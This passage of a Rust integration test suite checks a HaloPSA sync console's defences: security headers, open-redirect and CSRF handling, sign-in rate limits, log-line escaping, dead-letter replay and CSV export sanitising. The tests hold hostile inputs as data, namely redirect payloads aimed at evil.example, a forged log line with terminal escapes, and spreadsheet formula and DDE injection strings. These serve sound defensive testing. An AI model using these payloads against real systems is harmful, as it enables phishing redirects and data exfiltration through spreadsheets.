                "{GENEROUS_BUDGET}\n[connections.{CONNECTION}.items]\n\"MS-365-BP\" = 2010\n"
            ),
            ..Default::default()
        },
    )
    .await;
    env.sim.insert_item(ITEM, "Acme Backup 1 TB");
    env.sim.insert_item(2002, "Acme Backup 5 TB");
    env.sim.insert_item(2003, "Storage add-on");
    env.sim.insert_item(2010, "Microsoft 365 Business Premium");
    env.spawn_worker("halosync-account");
    env.spawn_worker("halosync-subscription");
    env.publish(&account_event("acc-e1", "acc_1", "Contoso Ltd", true, 1))
        .await;
    env.wait_for("customer", Duration::from_secs(30), || {
        customers_of(&env, "acc_1").len() == 1
    })
    .await;
    let mut e = subscription_event("s1", "sub_1", "acc_1", 5, "active", 1);
    e["data"]["product"] = json!({"sku": "ACME-BACKUP-1TB", "name": "Backup 1 TB"});
    env.publish(&e).await;
    let dead = env.topology.dead_queue(Family::Subscription);
    let deadline = Instant::now() + Duration::from_secs(30);
    while env.depth(&dead).await == 0 {
        assert!(Instant::now() < deadline, "{}", env.logs());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let marker = "halosync.subscription:sub_1";
    let licences = |env: &TestEnv| {
        env.sim
            .licences()
            .into_iter()
            .filter(|l| l["thirdparty_client_id"] == marker)
            .count()
    };
    assert_eq!(licences(&env), 0);

    let console = Console::start(&env, "", &[]).await;
    let b = Browser::signed_in(&console, "mappings", ALICE).await;
    b.goto(&console.at("/mappings")).await;
    let t = b
        .wait_text("#unmapped", "ACME-BACKUP-1TB", Duration::from_secs(30))
        .await;
    assert!(t.contains("subscription"), "{t}");
    b.shot("01-unmapped").await;
    // Search HaloPSA's items by name, pick one.
    b.fill("#item-search", "Backup").await;
    b.click("#search-items").await;
    let items = b
        .wait_text("#items", "Acme Backup 1 TB", Duration::from_secs(30))
        .await;
    assert!(
        !items.contains("Storage add-on"),
        "only the matching items: {items}"
    );
    b.shot("02-search").await;
    b.c()
        .find(Locator::Css(
            "tr[data-sku='ACME-BACKUP-1TB'] select.item-choice",
        ))
        .await
        .expect("item choice")
        .select_by_value(&ITEM.to_string())
        .await
        .expect("choose the item");
    b.click("tr[data-sku='ACME-BACKUP-1TB'] button[type=submit]")
        .await;
    let msg = b
        .wait_text("#mapped", "Mapped", Duration::from_secs(30))
        .await;
    assert!(
        msg.contains("ACME-BACKUP-1TB") && msg.contains("2001"),
        "{msg}"
    );
    assert_eq!(b.text("#waiting").await, "1");
    b.shot("03-mapped").await;
    // Replay that sku's dead letters: confirm, then the job.
    b.click("#replay-sku").await;
    assert_eq!(
        b.wait_text("#affected", "1", Duration::from_secs(30)).await,
        "1"
    );
    b.click("#go").await;
    b.wait_text("#job-state", "done", Duration::from_secs(60))
        .await;
    b.shot("04-replayed").await;
    env.wait_for("licence written", Duration::from_secs(30), || {
        licences(&env) == 1
    })
    .await;
    env.wait_drained(Family::Subscription, Duration::from_secs(30))
        .await;
    assert_eq!(licences(&env), 1, "applied exactly once");
    assert_eq!(env.depth(&dead).await, 0);
    // Who did it.
    let audit = b.audit(&console, "").await;
    assert!(
        audit.contains("mapping") && audit.contains("ACME-BACKUP-1TB → item 2001"),
        "{audit}"
    );
    assert!(
        audit.contains("replay") && audit.contains("s1") && audit.contains(ALICE.0),
        "{audit}"
    );
    b.shot("05-audit").await;
    drop(console);
}

/// The Reconcile page shows the last report that `halosync reconcile` kept
/// in Redis: when, the snapshot's size, the counts per drift kind and the
/// drifted aggregates.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reconcile_page_shows_the_last_report() {
    let env = TestEnv::new("con-rec").await;
    // HaloPSA as the workers would have left it, then edited by the MSP:
    // acc_1's customer inactivated; sub_1 never written.
    let client = env
        .sim
        .insert_record("Client", json!({"name": "Contoso Ltd", "inactive": true}))
        .expect("client");
    env.sim.insert_record(
        "ExternalLink",
        json!({"third_party_id": "acc_1", "third_party_type": "halosync.account",
               "halo_id": client, "table_id": 2, "third_party_secondary_id": "s=1"}),
    );
    let mut account = account_event("e1", "acc_1", "Contoso Ltd", true, 1);
    account["data"]
        .as_object_mut()
        .expect("data")
        .remove("website");
    let snapshot = env.dir.join("snapshot.jsonl");
    std::fs::write(
        &snapshot,
        format!(
            "{account}\n{}\n",
            subscription_event("e2", "sub_1", "acc_1", 5, "active", 1)
        ),
    )
    .expect("snapshot");
    let out = Command::new(binary_path("halosync"))
        .arg("--config")
        .arg(&env.config_path)
        .args(["reconcile", "--connection", CONNECTION, "--snapshot"])
        .arg(&snapshot)
        .env(SECRET_ENV, SimConfig::default().client_secret)
        .output()
        .expect("run halosync reconcile");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let console = Console::start(&env, "", &[]).await;
    let b = Browser::signed_in(&console, "reconcile", VICTOR).await;
    b.goto(&console.at("/reconcile")).await;
    let t = b
        .wait_text("#drifted", "2 aggregates drifted", Duration::from_secs(10))
        .await;
    assert!(t.contains("drifted"), "{t}");
    let body = b.body().await;
    assert!(body.contains("snapshot.jsonl: 2 events"), "{body}");
    assert_eq!(b.text("td[data-kind=differs]").await, "1");
    assert_eq!(b.text("td[data-kind=missing]").await, "2");
    assert_eq!(b.text("td[data-kind=orphaned]").await, "0");
    assert_eq!(b.count("tr[data-aggregate=acc_1]").await, 1);
    assert_eq!(b.count("tr[data-aggregate=sub_1]").await, 2);
    assert!(body.contains("active: true ≠ false"), "{body}");
    b.shot("01-last-report").await;
}

/// The console process's resident memory, from /proc/PID/status, in KiB.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("/proc status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .expect("VmRSS in /proc/PID/status")
}

/// The audit trail's entries, oldest first.
fn audit_entries(env: &TestEnv) -> Vec<serde_json::Value> {
    std::fs::read_to_string(env.dir.join("audit/audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// The broker connections this console process opened (by the name it
/// gives them), as `rabbitmqctl list_connections` shows them.
fn console_connections(pid: u32) -> Vec<String> {
    let out = Command::new("rabbitmqctl")
        .args([
            "list_connections",
            "-q",
            "--no-table-headers",
            "client_properties",
        ])
        .output()
        .expect("rabbitmqctl list_connections");
    assert!(
        out.status.success(),
        "rabbitmqctl failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let needle = format!("halosync-console:{pid}:");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            l.find(&needle)
                .map(|i| l[i..].split('"').next().unwrap_or("").to_string())
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_response_carries_the_security_headers_and_next_stays_on_the_console() {
    let env = TestEnv::new("con-hdr").await;
    let console = Console::start(&env, "", &[]).await;
    let anon = http_client([127, 0, 0, 1]);
    let (viewer, _) = http_session(&console, VICTOR).await;
    for (client, path) in [
        (&anon, "/login"),
        (&anon, "/healthz"),
        (&anon, "/static/console.js"),
        (&anon, "/static/console.css"),
        (&anon, "/dead"),
        (&anon, "/no-such-page"),
        (&viewer, "/"),
        (&viewer, "/dead"),
        (&viewer, "/audit"),
        (&viewer, "/activity"),
        (&viewer, "/activity.csv"),
        (&viewer, "/connections"),
        (&viewer, "/mappings"),
        (&viewer, "/reconcile"),
        (&viewer, "/jobs"),
        // A page number that overflowed before: now the last page.
        (&viewer, "/audit?page=18446744073709551615"),
        (&viewer, "/activity?page=18446744073709551615"),
    ] {
        let r = client.get(console.at(path)).send().await.expect("answer");
        assert!(!r.status().is_server_error(), "{path}: {}", r.status());
        let h = r.headers();
        let get = |k: &str| {
            h.get(k)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_string()
        };
        let csp = get("content-security-policy");
        for part in [
            "default-src 'self'",
            "frame-ancestors 'none'",
            "script-src 'self'",
            "style-src 'self'",
        ] {
            assert!(csp.contains(part), "{path}: CSP without {part}: {csp:?}");
        }
        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
        assert_eq!(get("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(get("referrer-policy"), "same-origin", "{path}");
        assert_eq!(get("x-frame-options"), "DENY", "{path}");
        if !path.starts_with("/static/") {
            assert_eq!(get("cache-control"), "no-store", "{path}");
        }
        if r.status() == 200 && get("content-type").starts_with("text/html") {
            let page = r.text().await.expect("page");
            assert!(
                !page.contains("<style")
                    && !page.contains(" style=")
                    && !page.contains("javascript:"),
                "{path}: inline style or script"
            );
            assert!(!page.contains("<script>"), "{path}: inline script");
        }
    }

    // `next` after signing in: every variant ends on a page of the console.
    let hostile = [
        "/\t/evil.example/pwn",
        "/%09/evil.example/pwn",
        "//evil.example/pwn",
        "/\\evil.example/pwn",
        "\\\\evil.example/pwn",
        "/\\/evil.example/pwn",
        "https://evil.example/pwn",
        "https:evil.example",
        "/%2F%2Fevil.example",
        "/%5C%5Cevil.example",
        "/\n/evil.example",
        " //evil.example",
        "javascript:alert(1)",
    ];
    let base = reqwest::Url::parse(&console.url).expect("console url");
    for (i, next) in hostile.iter().enumerate() {
        let c = http_client([127, 0, 1, 1 + i as u8]);
        let r = post_sign_in(
            &c,
            &console,
            &[("user", VICTOR.0), ("password", VICTOR.1), ("next", next)],
        )
        .await;
        assert_eq!(r.status(), 303, "{next:?}");
        let location = r.headers()["location"]
            .to_str()
            .expect("location")
            .to_string();
        // Resolved the way a browser resolves it (tabs and newlines dropped).
        let landed = base
            .join(&location)
            .expect("a location a browser can follow");
        assert_eq!(landed.origin(), base.origin(), "{next:?} -> {location:?}");
        assert!(
            !location.starts_with("//") && !location.contains('\\'),
            "{next:?} -> {location:?}"
        );
        assert!(
            !landed.as_str().contains("evil.example") || landed.host_str() == Some("127.0.0.1"),
            "{next:?} -> {landed}"
        );
        // Signed in already: the sign-in page redirects the same way.
        let r = c
            .get(console.at("/login"))
            .query(&[("next", next)])
            .send()
            .await
            .expect("login page");
        let location = r.headers()["location"]
            .to_str()
            .expect("location")
            .to_string();
        assert_eq!(
            base.join(&location).expect("location").origin(),
            base.origin(),
            "{next:?} -> {location:?}"
        );
    }
    // A path of the console, with its query, is kept.
    let c = http_client([127, 0, 1, 200]);
    let r = post_sign_in(
        &c,
        &console,
        &[
            ("user", VICTOR.0),
            ("password", VICTOR.1),
            ("next", "/dead?family=usage&class=rejected"),
        ],
    )
    .await;
    assert_eq!(r.headers()["location"], "/dead?family=usage&class=rejected");

    // Sign-in CSRF: no token, or another site's Origin, is refused.
    let c = http_client([127, 0, 1, 201]);
    let r = post_form(
        &c,
        &console,
        "/login",
        &[("user", VICTOR.0), ("password", VICTOR.1)],
    )
    .await;
    assert_eq!(r.status(), 403, "no sign-in token");
    let r = post_sign_in_with(
        &c,
        &console,
        Some(("origin", "https://evil.example")),
        &[("user", VICTOR.0), ("password", VICTOR.1)],
    )
    .await;
    assert_eq!(r.status(), 403, "a cross-site form");
    let r = post_sign_in_with(
        &c,
        &console,
        Some(("origin", console.url.as_str())),
        &[("user", VICTOR.0), ("password", VICTOR.1)],
    )
    .await;
    assert_eq!(r.status(), 303, "the console's own form");
}

#[tokio::test(flavor = "multi_thread")]
async fn sign_ins_are_counted_before_the_password_check_and_a_flood_keeps_memory_flat() {
    let env = TestEnv::new("con-flood").await;
    let console = Console::start(&env, "", &[]).await;
    let pid = console.child.id();
    // Warm up: one sign-in has run argon2 once.
    let _ = http_session(&console, VICTOR).await;

    // 40 at once for one user from one address: 39 wrong, 1 right.
    let client = http_client([127, 0, 0, 5]);
    let token = login_token(&client, &console.at("/login")).await;
    let attempts = (0..40).map(|i| {
        let password = if i == 20 { ALICE.1 } else { "wrong-password" };
        client
            .post(console.at("/login"))
            .form(&[
                ("login_token", token.as_str()),
                ("user", ALICE.0),
                ("password", password),
            ])
            .send()
    });
    let statuses: Vec<u16> = futures::future::join_all(attempts)
        .await
        .into_iter()
        .map(|r| r.expect("every attempt is answered").status().as_u16())
        .collect();
    assert_eq!(statuses.len(), 40);
    assert!(
        statuses.iter().all(|s| [303, 401, 429].contains(s)),
        "{statuses:?}"
    );
    let entries: Vec<_> = audit_entries(&env)
        .into_iter()
        .filter(|e| e["action"] == "sign-in" && e["target"] == "127.0.0.5")
        .collect();
    let checked = entries
        .iter()
        .filter(|e| e["outcome"] == "ok" || e["outcome"] == "failed")
        .count();
    let answered_after_check = statuses.iter().filter(|s| **s != 429).count();
    println!("40 concurrent sign-ins: {checked} password checks, statuses {statuses:?}");
    assert!(
        checked <= 5,
        "at most login_attempts (5) password checks, not {checked}"
    );
    assert_eq!(checked, answered_after_check, "each check is audited once");
    assert_eq!(
        entries.len(),
        40,
        "every attempt, refused or checked, is audited"
    );

    // 100 at once with unknown user names from 100 addresses: the password
    // checks queue behind the semaphore, memory stays flat.
    let before = rss_kib(pid);
    let login = console.at("/login");
    let clients: Vec<(reqwest::Client, String)> = futures::future::join_all((0..100u8).map(|i| {
        let login = login.clone();
        async move {
            let c = http_client([127, 0, 2, 1 + i]);
            let token = login_token(&c, &login).await;
            (c, token)
        }
    }))
    .await;
    let flood = clients.iter().enumerate().map(|(i, (c, token))| {
        c.post(console.at("/login"))
            .form(&[
                ("login_token", token.as_str()),
                ("user", &format!("ghost{i}")),
                ("password", "x"),
            ])
            .send()
    });
    let statuses: Vec<u16> = futures::future::join_all(flood)
        .await
        .into_iter()
        .map(|r| r.expect("every attempt is answered").status().as_u16())
        .collect();
    assert!(
        statuses.iter().all(|s| [401, 429].contains(s)),
        "{statuses:?}"
    );
    let after = rss_kib(pid);
    println!(
        "console RSS before {} MiB, after 100 concurrent sign-ins {} MiB ({} x 401, {} x 429)",
        before / 1024,
        after / 1024,
        statuses.iter().filter(|s| **s == 401).count(),
        statuses.iter().filter(|s| **s == 429).count()
    );
    assert!(
        after <= before + 50 * 1024,
        "RSS grew from {before} KiB to {after} KiB"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn live_streams_are_capped_share_one_collector_and_end_with_the_session() {
    let env = TestEnv::new("con-live").await;
    let console = Console::start(&env, "", &[]).await;
    let pid = console.child.id();
    let (client, csrf) = http_session(&console, VICTOR).await;
    let answers = futures::future::join_all(
        (0..200).map(|_| client.get(console.at("/live/overview")).send()),
    )
    .await;
    let mut accepted = Vec::new();
    let mut refused = 0;
    for r in answers {
        let r = r.expect("every stream request is answered");
        match r.status().as_u16() {
            200 => accepted.push(r),
            429 => refused += 1,
            s => panic!("unexpected status {s}"),
        }
    }
    println!(
        "200 streams asked: {} accepted, {refused} refused",
        accepted.len()
    );
    assert!(
        !accepted.is_empty() && accepted.len() <= 4,
        "the per-session cap (4): {}",
        accepted.len()
    );
    assert_eq!(accepted.len() + refused, 200);
    // Each accepted stream gets the numbers.
    for r in accepted.iter_mut() {
        loop {
            let chunk = tokio::time::timeout(Duration::from_secs(30), r.chunk())
                .await
                .expect("an event within 30 s")
                .expect("stream")
                .expect("the stream is open");
            if String::from_utf8_lossy(&chunk).contains("data:") {
                break;
            }
        }
    }
    // One collector, one broker connection for it (plus the activity reader).
    let conns = console_connections(pid);
    println!("console broker connections: {conns:?}");
    assert!((1..=2).contains(&conns.len()), "{conns:?}");
    assert_eq!(
        conns.iter().filter(|c| c.ends_with(":overview")).count(),
        1,
        "{conns:?}"
    );
    let t = Instant::now();
    let r = client.get(console.at("/")).send().await.expect("overview");
    assert_eq!(r.status(), 200);
    println!(
        "/ answered in {:?} with {} streams open",
        t.elapsed(),
        accepted.len()
    );
    assert_eq!(
        console_connections(pid).len(),
        conns.len(),
        "the page reuses the connection"
    );

    // Signing out ends the session's streams.
    let r = post_form(&client, &console, "/logout", &[("csrf", csrf.as_str())]).await;
    assert_eq!(r.status(), 303);
    let t = Instant::now();
    for mut r in accepted {
        loop {
            match tokio::time::timeout(Duration::from_secs(30), r.chunk()).await {
                Err(_) => panic!("a stream is still open 30 s after sign-out"),
                Ok(Ok(Some(_))) => continue,
                Ok(Ok(None)) | Ok(Err(_)) => break,
            }
        }
    }
    println!("streams closed {:?} after sign-out", t.elapsed());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failed_sign_in_with_a_newline_is_one_escaped_log_line_and_one_audit_entry() {
    let env = TestEnv::new("con-logi").await;
    let console = Console::start(&env, "", &[]).await;
    let c = http_client([127, 0, 0, 7]);
    let forged = "mallory\nINFO halosync: signed in user=root role=operator\u{1b}[2J";
    let r = post_sign_in(&c, &console, &[("user", forged), ("password", "guess")]).await;
    assert_eq!(r.status(), 401);
    let logs = console.logs();
    let lines: Vec<&str> = logs.lines().filter(|l| l.contains("mallory")).collect();
    assert_eq!(lines.len(), 1, "one line for one failed sign-in:\n{logs}");
    assert!(lines[0].contains("sign-in failed"), "{}", lines[0]);
    assert!(
        lines[0].contains("mallory\\nINFO"),
        "the newline is escaped: {}",
        lines[0]
    );
    assert!(
        !logs.contains('\u{1b}'),
        "no terminal escape reaches the log"
    );
    assert!(
        !logs
            .lines()
            .any(|l| l.starts_with("INFO halosync: signed in user=root")),
        "no forged line"
    );
    let entries: Vec<_> = audit_entries(&env)
        .into_iter()
        .filter(|e| e["action"] == "sign-in")
        .collect();
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(entries[0]["user"], forged, "the name as given, as data");
    assert_eq!(entries[0]["outcome"], "failed");
    assert_eq!(entries[0]["target"], "127.0.0.7");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dead_letter_whose_id_holds_a_comma_is_the_only_one_replayed_or_purged() {
    let env = TestEnv::new("con-comma").await;
    put_dead(
        &env,
        Family::Account,
        &[
            (
                "evt_a,evt_b".into(),
                "invalid",
                "an id a publisher got wrong".into(),
            ),
            ("evt_a".into(), "invalid", "another".into()),
            ("evt_b".into(), "invalid", "and another".into()),
        ],
    )
    .await;
    let dead = env.topology.dead_queue(Family::Account);
    let work = env.topology.work_queue(Family::Account);
    let console = Console::start(&env, "", &[]).await;
    let (op, csrf) = http_session(&console, ALICE).await;
    // The list page's checkbox carries the id as it is.
    let page = page_text(&op, &console.at("/dead")).await;
    assert!(page.contains(r#"name="id" value="evt_a,evt_b""#), "{page}");
    let mut job = String::new();
    for (action, left) in [("replay", 2), ("purge", 1)] {
        let id = if action == "replay" {
            "evt_a,evt_b"
        } else {
            "evt_b"
        };
        let r = post_form(
            &op,
            &console,
            "/dead/action",
            &[("csrf", csrf.as_str()), ("action", action), ("id", id)],
        )
        .await;
        let text = r.text().await.expect("confirm page");
        assert!(
            text.contains(&format!(
                "{} 1 dead letters?",
                if action == "replay" {
                    "Replay"
                } else {
                    "Purge"
                }
            )),
            "{text}"
        );
        let mut form = vec![
            ("csrf", csrf.as_str()),
            ("action", action),
            ("id", id),
            ("expected", "1"),
        ];
        if action == "purge" {
            form.push(("confirm_word", "purge"));
        }
        let r = op
            .post(console.at("/dead/run"))
            .form(&form)
            .send()
            .await
            .expect("run");
        assert_eq!(r.status(), 303, "{action}");
        job = r.headers()["location"]
            .to_str()
            .expect("location")
            .trim_start_matches("/jobs/")
            .to_string();
        env.wait_for(&format!("{action} done"), Duration::from_secs(60), || {
            audit_entries(&env)
                .iter()
                .any(|e| e["action"] == action && e["outcome"] == "done")
        })
        .await;
        assert_eq!(
            env.depth(&dead).await,
            left,
            "{action} acted on one dead letter only"
        );
    }
    // A cancel is audited under whoever asked for it.
    let r = post_form(
        &op,
        &console,
        &format!("/jobs/{job}/cancel"),
        &[("csrf", csrf.as_str())],
    )
    .await;
    assert_eq!(r.status(), 303);
    let cancels: Vec<_> = audit_entries(&env)
        .into_iter()
        .filter(|e| e["action"] == "cancel")
        .collect();
    assert_eq!(cancels.len(), 1, "{cancels:?}");
    assert_eq!(cancels[0]["user"], ALICE.0);
    assert_eq!(cancels[0]["job"], job.as_str());
    // What is left is evt_a; what was replayed is the one with the comma.
    let (ok, out) = env.run_halosync(&["--json", "dlq", "list", "--family", "account"]);
    assert!(ok, "{out}");
    let list: Vec<serde_json::Value> = serde_json::from_str(&out).expect("dlq list --json");
    let ids: Vec<&str> = list.iter().filter_map(|d| d["event_id"].as_str()).collect();
    assert_eq!(ids, ["evt_a"], "{out}");
    assert_eq!(
        env.depth(&work).await,
        1,
        "the replayed one is back in its work queue"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_exports_neutralise_formula_cells_in_the_console_and_the_cli() {
    use halosync_shared::activity::{ActivityRecord, ActivityRecorder};
    let env = TestEnv::new("con-csv").await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let recorder = ActivityRecorder::start(
        halosync_tests::AMQP_URL,
        &Default::default(),
        env.topology.activity_queue(),
        "tests-csv",
    );
    recorder.record(ActivityRecord {
        time: chrono::Utc::now(),
        connection: "acme".into(),
        family: "account".into(),
        event_id: "evt_csv_1".into(),
        event_type: "account.created".into(),
        aggregate: formula.into(),
        outcome: halosync_shared::Settled::Applied,
        class: None,
        message: Some("@SUM(1+1)".into()),
        halo_status: None,
        attempts: 1,
        worker: "-cmd|' /C calc'!A0".into(),
    });
    recorder.close(Duration::from_secs(10)).await;
    assert_eq!(recorder.dropped(), 0);
    let check = |text: &str, source: &str| {
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let row = r
            .records()
            .filter_map(Result::ok)
            .find(|row| row.get(3) == Some("evt_csv_1"))
            .unwrap_or_else(|| panic!("{source}: no row for evt_csv_1:\n{text}"));
        assert_eq!(row.get(5), Some(format!("'{formula}").as_str()), "{source}");
        assert_eq!(row.get(11), Some("'@SUM(1+1)"), "{source}");
        assert_eq!(row.get(10), Some("'-cmd|' /C calc'!A0"), "{source}");
    };
    let (ok, out) = env.run_halosync(&["activity", "--csv"]);
    assert!(ok, "{out}");
    check(&out, "halosync activity --csv");
    let console = Console::start(&env, "", &[]).await;
    let (viewer, _) = http_session(&console, VICTOR).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let text = page_text(&viewer, &console.at("/activity.csv")).await;
        if text.contains("evt_csv_1") {
            check(&text, "/activity.csv");
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the console never read the record:\n{text}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn spoofed_failure_headers_do_not_move_an_event_to_another_family() {
    let mut env = TestEnv::new("con-spoof").await;
    env.spawn_worker("halosync-account");
    // An invalid account event (dead-lettered at once) whose publisher set
    // halosync's own failure headers.
    let mut bad = account_event("evt_spoof_1", "acc_spoof", "Spoof", true, 1);
    bad["data"]["active"] = json!("yes");
    let mut t = FieldTable::default();
    h::set_str(&mut t, h::ORIGINAL_ROUTING_KEY, "usage.reported");
    h::set_str(&mut t, h::EVENT_ID, "evt_someone_else");
    h::set_i64(&mut t, h::ATTEMPTS, 99);
    env.publisher
        .publish_raw(
            "evt_spoof_1",
            "account.created",
            &serde_json::to_vec(&bad).expect("json"),
            t,
        )
        .await
        .expect("publish");
    let dead = env.topology.dead_queue(Family::Account);
    let deadline = Instant::now() + Duration::from_secs(60);
    while env.depth(&dead).await < 1 {
        assert!(
            Instant::now() < deadline,
            "never dead-lettered:\n{}",
            env.logs()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // Stopped, not killed: the worker acks the original once the broker
    // confirmed its dead-letter copy, and a SIGKILL between the two puts the
    // original back in the work queue (at-least-once), which the counts
    // below would take for the replay. SIGTERM finishes that settle first.
    let status = env.stop_worker(0);
    assert!(
        status.success(),
        "the worker did not stop cleanly: {status}"
    );
    let (ok, out) = env.run_halosync(&["--json", "dlq", "list", "--family", "account"]);
    assert!(ok, "{out}");
    let list: Vec<serde_json::Value> = serde_json::from_str(&out).expect("json");
    assert_eq!(list.len(), 1, "{out}");
    assert_eq!(
        list[0]["event_id"], "evt_spoof_1",
        "the envelope's id, not the header's"
    );
    assert_eq!(list[0]["original_routing_key"], "account.created");
    assert_eq!(
        list[0]["headers"][h::ORIGINAL_ROUTING_KEY],
        "account.created",
        "the worker wrote its own"
    );
    assert_eq!(
        list[0]["attempts"], 1,
        "the publisher's attempts were ignored"
    );
    let (ok, out) = env.run_halosync(&["dlq", "replay", "--event-id", "evt_spoof_1"]);
    assert!(ok, "{out}");
    assert_eq!(
        env.depth(&env.topology.work_queue(Family::Account)).await,
        1,
        "back in its own family: {out}"
    );
    assert_eq!(
        env.depth(&env.topology.work_queue(Family::Usage)).await,
        0,
        "not in another family's"
    );
    assert_eq!(env.depth(&dead).await, 0);
}
